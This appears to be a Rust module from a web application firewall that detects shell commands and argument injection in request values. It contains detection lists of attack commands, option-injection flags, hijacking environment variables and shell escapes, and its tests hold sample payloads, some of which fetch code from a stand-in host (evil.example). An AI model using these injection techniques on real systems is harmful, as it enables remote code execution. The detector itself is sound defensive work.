//! A value that is a command from its first byte: `cat /etc/passwd`, `/bin/sh -c id`, `perl -e 1`.

use super::argument::{self, Proof};
use super::command::{self, Class};
use super::context;
use super::word::Word;
use crate::waf::detect::Hits;
use crate::waf::meter::price;
use crate::waf::rules::Rule;
use crate::waf::rules::shell as rules;
use crate::waf::scan::{
    Needles, at, find, from, is_space, is_word, skip_space, skip_while, span, stands, trim,
};

/// Words of a sentence after which a command is talked about rather than run.
const MAX_WORDS: usize = 3;

/// The rule that the value breaks as a whole, and where.
pub(super) fn judge(
    text: &[u8],
    first: usize,
    hits: &mut Hits,
) -> Option<(&'static Rule, usize, usize)> {
    if let Some(end) = injected_option(text, first) {
        return Some((&rules::OPTION, first, end));
    }
    if let Some(end) = computes(text, first) {
        return Some((&rules::COMMAND, first, end));
    }
    let start = skip_while(text, first, |byte| matches!(byte, b'{' | b'(' | b'@'));
    let mut word = Word::read(text, start)?;
    if word.is_pattern() {
        hits.meter.charge(1, price::PATTERN);
    }
    let mut proof = argument::proof(text, &word);
    if let Some(inner) = super::lead::unwrapped(text, &word, proof) {
        word = inner;
        proof = argument::proof(text, &word);
    }
    let class = word.class()?;
    // `/bin/sh: 1: pip: not found` tells what went wrong.
    if at(text, word.end) == b':' && is_space(at(text, word.end + 1)) {
        return None;
    }
    let is_severe = context::is_severe(text, start, 140);
    // `ping 1.1.1.1 high latency` is what people look for.
    if word.name() == b"ping" && !is_severe && words_after(text, word.end) >= 2 {
        return None;
    }
    // `nc -l 1234 file transfer`: the program takes no such words.
    let is_listener = stands(text, skip_space(text, word.end), b"-l ");
    if word.name() == b"nc" && is_listener && !is_severe && words_after(text, word.end) >= 2 {
        return None;
    }
    // `ipconfig /all menunjukkan DNS 192.168.1.1`: nor does this one.
    if word.name() == b"ipconfig" && !is_severe && words_after(text, word.end) >= 2 {
        return None;
    }
    let is_targeted = is_severe || has_target(text, word.end);
    let is_lookup = word.name() == b"getent" && proof == Proof::Hard;
    let runs = runs_command(text, &word);
    let most_words = if is_targeted { MAX_WORDS } else { 1 };
    let is_meant = is_severe
        || is_lookup
        || runs
        || word.is_evaded && proof == Proof::Hard
        || is_net_command(text, &word);
    if !is_meant && words_after(text, word.end) >= most_words {
        return None;
    }
    let next = skip_space(text, word.end);
    let argument = span(text, next, skip_while(text, next, |byte| !is_space(byte)));
    let is_code = command::is_interpreter(word.name())
        && matches!(
            argument,
            b"-e" | b"-c" | b"-r" | b"-x" | b"-ne" | b"-i" | b"-rsocket"
        );
    // An interpreter without a program does nothing.
    let is_idle = matches!(argument, b"" | b"-v" | b"--version" | b"-version")
        && matches!(
            word.name(),
            b"python" | b"python3" | b"perl" | b"php" | b"node" | b"ruby" | b"java"
        );
    if is_idle && !argument.is_empty() && !is_severe {
        return None;
    }
    let is_known = match class {
        Class::Recon => proof > Proof::Ends || word.is_evaded || is_switch(argument),
        Class::Bare => proof == Proof::Hard || (word.is_evaded && is_severe),
        Class::Tool => {
            (proof >= Proof::Later && runs_alone(word.name()) && !is_aimless(text, &word))
                || (proof == Proof::Hard && is_severe)
                || is_code
        }
        Class::Word => {
            (proof == Proof::Hard && (is_severe || runs_alone(word.name()) || is_evaded(&word)))
                || (proof == Proof::Later && is_severe)
                || (is_net(word.name(), argument) && words_after(text, next + argument.len()) < 2)
        }
        Class::Tame => false,
    };
    if !is_severe && (is_served(&word, argument) || is_tidied(text, &word)) {
        return None;
    }
    // `id|`: Perl's `open` runs it.
    let is_piped =
        matches!(class, Class::Recon | Class::Bare) && trim(from(text, word.end)) == b"|";
    let is_program = word.is_path && word.is_program && class != Class::Tame && !is_idle;
    let is_redirected =
        proof == Proof::Hard && matches!(at(text, word.end), b'<' | b'>') && word.name().len() > 1;
    let is_interpreter = matches!(word.name(), b"cmd") && matches!(argument, b"/c" | b"/k" | b"/r");
    // `tail -f /var/log/syslog` is what people look for.
    let is_watched =
        matches!((word.name(), argument), (b"tail", b"-f") | (b"find", b".")) && !is_severe;
    if is_watched
        || !(is_known || is_piped || runs || is_program || is_redirected || is_interpreter)
    {
        return None;
    }
    let rule = if word.is_evaded {
        &rules::EVASION
    } else {
        &rules::COMMAND
    };
    Some((rule, start, next.max(word.end)))
}

/// `sh -c id`: a shell and a command that is no other word, with nothing after it.
fn runs_command(text: &[u8], word: &Word) -> bool {
    let option = skip_space(text, word.end);
    let start = skip_while(text, option + 2, |byte| {
        is_space(byte) || matches!(byte, b'"' | b'\'')
    });
    let start = if word.is_evaded && !stands(text, option, b"-") {
        option
    } else {
        start
    };
    command::is_interpreter(word.name())
        && (stands(text, option, b"-c") && start > option + 2 || start == option)
        && Word::read(text, start).is_some_and(|inner| {
            matches!(inner.class(), Some(Class::Recon | Class::Bare))
                && argument::ends(text, inner.end)
        })
}

/// `python -m http.server 8000`, `php -S localhost:8000`: a developer's own server, and no program
/// that came along.
fn is_served(word: &Word, argument: &[u8]) -> bool {
    match word.name() {
        b"php" => argument == b"-s" || is_expression(argument),
        b"python" | b"python2" | b"python3" => argument == b"-m" || is_expression(argument),
        b"node" | b"ruby" | b"perl" => is_expression(argument),
        // `bash ${var:-default}`, `bash 2>/dev/null`: what a language has, and no script.
        b"bash" => {
            argument.starts_with(b"2>")
                || argument.starts_with(b"${") && find(argument, b":-", 0).is_some()
        }
        _ => false,
    }
}

/// `python open('a.txt')`, `php $conn = new mysqli(...)`: code behind the language's name, which a
/// shell takes for no file.
fn is_expression(argument: &[u8]) -> bool {
    let name = skip_while(argument, usize::from(at(argument, 0) == b'$'), is_word);
    match at(argument, name) {
        b'(' => name > 1,
        0 => at(argument, 0) == b'$' && name > 1,
        _ => false,
    }
}

/// `rm -rf`, `rm -rf node_modules dist`: nothing, or folders of the project that one stands in.
fn is_tidied(text: &[u8], word: &Word) -> bool {
    let tail = span(text, word.end, word.end + 160);
    let mut tokens = tail
        .split(|byte| is_space(*byte))
        .filter(|token| !token.is_empty());
    let is_plain = |token: &[u8]| {
        token
            .iter()
            .all(|byte| is_word(*byte) || matches!(byte, b'-' | b'.' | b'/'))
            && !matches!(at(token, 0), b'/' | b'.')
    };
    word.name() == b"rm"
        && !word.is_evaded
        && tokens
            .next()
            .is_some_and(|option| option.starts_with(b"-r"))
        && tokens.all(is_plain)
}

/// `wget --mirror -p`: options, and nothing to fetch.
fn is_aimless(text: &[u8], word: &Word) -> bool {
    let tail = span(text, word.end, word.end + 160);
    matches!(word.name(), b"wget" | b"curl" | b"telnet" | b"ping")
        && !word.is_evaded
        && tail.split(|byte| is_space(*byte)).all(|token| {
            token.is_empty()
                || token.iter().all(|byte| is_word(*byte) || *byte == b'-')
                    && token.starts_with(b"-")
        })
}

fn is_evaded(word: &Word) -> bool {
    word.is_evaded || word.is_spaced
}

/// Commands that stand alone in attacks; others with a flag are what people search for.
fn runs_alone(name: &[u8]) -> bool {
    matches!(
        name,
        b"cat"
            | b"tac"
            | b"head"
            | b"tail"
            | b"more"
            | b"less"
            | b"nl"
            | b"type"
            | b"wget"
            | b"curl"
            | b"nc"
            | b"ncat"
            | b"netcat"
            | b"bash"
            | b"sh"
            | b"rm"
            | b"ps"
            | b"ping"
            | b"telnet"
            | b"del"
            | b"find"
            | b"socat"
            | b"iwr"
            | b"iex"
            | b"fetch"
            | b"tftp"
            | b"dd"
            | b"busybox"
            | b"strings"
            | b"od"
            | b"xxd"
            | b"cp"
            | b"mv"
            | b"python"
            | b"python3"
            | b"start-sleep"
            | b"perl"
            | b"php"
            | b"ruby"
    )
}

/// `net user`, also with carets.
fn is_net(name: &[u8], argument: &[u8]) -> bool {
    let argument: Vec<u8> = span(argument, 0, 20)
        .iter()
        .copied()
        .filter(|byte| *byte != b'^')
        .collect();
    name == b"net"
        && matches!(
            argument.as_slice(),
            b"user" | b"localgroup" | b"view" | b"share"
        )
}

fn is_net_command(text: &[u8], word: &Word) -> bool {
    let start = skip_space(text, word.end);
    let end = skip_while(text, start, |byte| !is_space(byte));
    is_net(word.name(), span(text, start, end))
}

/// `/priv`
fn is_switch(argument: &[u8]) -> bool {
    at(argument, 0) == b'/' && argument.len() <= 8 && argument.len() > 1
}

/// Whether an address, a path or a URL follows: something to run the command on.
fn has_target(text: &[u8], end: usize) -> bool {
    let tail = span(text, end, end + 160);
    tail.split(|byte| is_space(*byte)).any(|token| {
        let start = skip_while(token, 0, |byte| matches!(byte, b'"' | b'\'' | b'<' | b'>'));
        matches!(at(token, start), b'/' | b'$' | b'~' | b'\\')
            || at(token, start).is_ascii_digit()
            || token
                .windows(3)
                .any(|window| window == b"://" || window == b":\\w")
            || at(token, start + 1) == b':'
    })
}

/// How many words of a sentence follow the command, counted up to [`MAX_WORDS`].
fn words_after(text: &[u8], end: usize) -> usize {
    let tail = span(text, end, end + 160);
    tail.split(|byte| is_space(*byte))
        .filter(|token| {
            token.len() > 1
                && token
                    .iter()
                    .all(|byte| byte.is_ascii_alphabetic() || matches!(byte, b',' | b'?' | b'.'))
                && token.iter().any(u8::is_ascii_alphabetic)
                && !token.iter().rev().skip(1).any(|byte| *byte == b'.')
        })
        .take(MAX_WORDS)
        .count()
}

/// Options that make a program run another or write a file, where the value starts with one.
const OPTIONS: &[&[u8]] = &[
    b"-oproxycommand",
    b"--output=",
    b"--output-document=",
    b"--use-compress-program",
    b"--checkpoint-action",
    b"--upload-pack",
    b"--receive-pack",
    b"--to-command",
    b"--exec=",
    b"--rsh=",
    b"--post-file=",
    b"--open-files-in-pager",
    b"--config=core.",
    b"--init-command",
    b"--use-askpass",
    b"--info-script",
    b"-exec ",
    b"--eval=",
    b"--remote-sub",
    b"--rmt-command",
    b"--config-env",
    b"--ext-diff",
    b"-ojumpcommand",
    b"--load=",
    b"--rcfile=",
    b"--config=alias.",
    b"-k/tmp/",
];

/// `expr 1337 + 1338`, `set /a 7*7`, `echo $((7*7))`: sums by which a probe sees that it ran.
fn computes(text: &[u8], first: usize) -> Option<usize> {
    let starts: [&[u8]; 5] = [
        b"expr ",
        b"set /a ",
        b"echo $((",
        b"echo $[",
        b"echo `expr ",
    ];
    let start = starts.iter().find(|start| stands(text, first, start))?;
    let sum = first + start.len();
    let number = skip_while(text, sum, |byte| byte.is_ascii_digit());
    let end = skip_while(span(text, 0, first + 60), number, |byte| {
        byte.is_ascii_digit() || is_space(byte) || b"+-*/%\\()]`&;|#".contains(&byte)
    });
    (number > sum && end > number && end >= text.len()).then_some(end)
}

/// What an option that attackers add makes a program run, load or read.
static RUNS: Needles<'static> = Needles::new(&[
    b"sh -c ",
    b"sh -i",
    b"-javaagent:",
    b"onoutofmemoryerror=",
    b"-cmd-prefix=",
    b"-launcher=",
    b"core.pager=",
    b"core.editor=",
    b"core.fsmonitor=",
    b"core.hookspath=",
    b"--exec-path=/",
    b"ext::",
    b"auto_prepend_file",
    b"/proc/self/",
    b"concat:http",
    b"textfile=/",
    b"amovie=/",
    b"file:///",
    b"unzip-command=",
    b"k http:",
    b"/etc/passwd",
    b"localcommand=",
    b"-c alias.",
    b"--template=/",
    b"-tt '",
    b"-tt=\"",
    b" -exec ",
    b"-o /var/www",
    b"-o /usr/share/nginx",
    b"--upload-file /",
    b"--config http",
    b"--engine /",
    b"--input-file=/",
    b"--rsync-path=",
    b"--html=",
    b"--pager=",
    b"-c ':!",
    b"-c ':",
    b"-c :!",
    b"-c :lua",
    b"-write /var/www",
    b"-e '\\!",
    b"-c \"\\!",
    b"-c '\\!",
    b"to program '",
    b".shell ",
    b"-script-args http-fetch",
    b"-z id",
    b"-z /tmp/",
    b"-z sh",
    b"-e /bin/",
    b"-e cmd",
    b"--require=./",
    b"--require=/",
    b"--require /",
    b"--inspect=0.0.0.0",
    b"--inspect-brk=0",
    b"xx:onerror=",
    b"-r system(",
    b"-r passthru(",
    b"-r phpinfo(",
    b"-r exec(",
    b"-preserve-root",
    b"--compress-program=",
    b"-cid ",
    b"-session-command=",
    b"--debugger=",
    b"--index-url http",
    b"--script-shell=",
    b"--pre=",
    b"--hostname-bin=",
    b"--registry=http",
    b"globalconfig=/",
    b"$(id",
    b"`id",
    b"--eval='",
    b"eval=\"",
]);
/// Longest value that is read as options.
const MAX_OPTIONS: usize = 300;

/// Variables that make the next program run what they name.
const VARIABLES: &[&[u8]] = &[
    b"perl5opt=-m",
    b"rubyopt=-r",
    b"java_tool_options=-javaagent",
    b"pythonstartup=/tmp/",
    b"prompt_command=",
    b"ld_preload=",
    b"ld_library_path=/tmp",
    b"git_ssh_command=",
    b"bash_env=",
];
/// Escapes from an editor or a client to a shell.
const ESCAPES: &[&[u8]] = &[
    b"\\! ",
    b":!",
    b"!/bin/",
    b"+!",
    b"1e ",
    b".system ",
    b".shell ",
    b":set shell=",
    b":r!",
    b":r !",
];

/// Where an option, a variable or an escape ends that runs what follows it.
fn injected_option(text: &[u8], first: usize) -> Option<usize> {
    let starts = |heads: &[&[u8]]| {
        let head = heads.iter().find(|head| stands(text, first, head))?;
        Some(first + head.len())
    };
    if let Some(end) = starts(OPTIONS) {
        return Some(end);
    }
    if text.len() > MAX_OPTIONS || text.contains(&b'\n') {
        return None;
    }
    let is_option = at(text, first) == b'-'
        && at(text, skip_while(text, first, |byte| byte == b'-')).is_ascii_alphabetic();
    if is_option {
        return RUNS.find(text, first).map(|(start, run)| start + run.len());
    }
    // `/etc -type f -exec cat {} +`: what `find` was given to look through.
    if matches!(at(text, first), b'/' | b'.') && words_after(text, first) < MAX_WORDS {
        let run = find(text, b" -exec ", first);
        return run.map(|start| start + 7);
    }
    if let Some(end) = starts(VARIABLES) {
        // `GIT_SSH_COMMAND="ssh -i key"` names the key to use.
        let value = skip_while(text, end, |byte| matches!(byte, b'"' | b'\''));
        let is_key = stands(text, value, b"ssh ");
        return (!is_key && value < text.len()).then_some(end);
    }
    let end = starts(ESCAPES)?;
    let is_command = at(text, end) == b'/'
        || Word::read(text, end).is_some_and(|word| {
            word.class().is_some_and(|class| class != Class::Tame)
                && words_after(text, word.end) == 0
        });
    is_command.then_some(end)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn options_variables_and_escapes_run_what_they_name() {
        let is_found = |text: &str| injected_option(text.as_bytes(), 0).is_some();
        for attack in [
            "-e sh -c id",
            "-tt 'sh -c id'",
            "--gpu-launcher=\"bash -c id\"",
            "-xx:onoutofmemoryerror=\"id\"",
            "-javaagent:/tmp/x.jar",
            "-d auto_prepend_file=http://evil.example/x",
            "-k http://evil.example/cfg",
            "perl5opt=-mbase;print(`id`)",
            "git_ssh_command=id",
            "prompt_command=id",
            "ld_preload=./x.so",
            "\\! id",
            ":!id",
            ":!/bin/sh",
            "!/bin/bash",
        ] {
            assert!(is_found(attack), "{attack}");
        }
        for honest in [
            "- sh -c is what the image runs",
            "-site:example.com cheap flights",
            "-5 degrees, sh -c id",
            "git_ssh_command=\"ssh -i ~/.ssh/deploy\" git clone x",
            "java_tool_options=-xmx512m",
            "rubyopt=-w0",
            ":!important",
            "!important",
            "\\! and \\? in a pattern",
        ] {
            assert!(!is_found(honest), "{honest}");
        }
    }
}
